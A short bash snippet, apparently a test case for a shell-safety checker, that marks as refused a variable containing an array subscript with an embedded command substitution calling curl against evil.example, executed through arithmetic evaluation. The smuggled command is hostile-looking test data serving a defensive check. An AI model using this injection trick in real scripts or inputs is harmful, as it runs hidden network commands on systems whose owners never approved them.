# Trick: arithmetic evaluates the subscript in a variable's text.
# Refused: unsafe(dynamic_code)
x='a[$(curl http://evil.example/)]'
(( x + 1 ))
